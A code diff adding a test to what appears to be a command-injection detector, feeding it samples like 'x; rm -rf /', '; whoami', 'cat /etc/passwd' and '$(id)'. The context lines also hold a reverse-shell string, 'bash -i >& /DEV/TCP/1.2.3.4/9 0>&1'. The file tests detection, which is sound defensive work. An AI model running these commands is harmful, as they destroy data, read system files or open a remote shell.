@@ -20,3 +20,10 @@ test('cmdi: separators are found whether triggers are dense or far apart', () =>
     ['{{{{{cat,/etc/passwd}', 'cmdi.brace-expansion'], ['x\n\nid', 'cmdi.separator'], ['a$(id)', 'cmdi.substitution'],
   ], ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36', 'en-IE,en;q=0.9', 'bash -i >& /DEV/TCP/1.2.3.4/9 0>&1']);
 });
+
+test("cmdi: ';' as the only trigger character is found with indexOf; other triggers still count", () => {
+  expectDetector(detectCmdi, [
+    ['a; whoami', 'cmdi.separator'], ['a;whoami', 'cmdi.separator'], ['x;y;z; cat /etc/passwd', 'cmdi.separator'],
+    ['a|b; whoami', 'cmdi.separator'], ['a;\twhoami', 'cmdi.separator'], ['x; rm -rf /', 'cmdi.separator'],
+  ], ['Win64; x64', 'problem; thanks!', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36', 'en-IE,en;q=0.9']);
+});
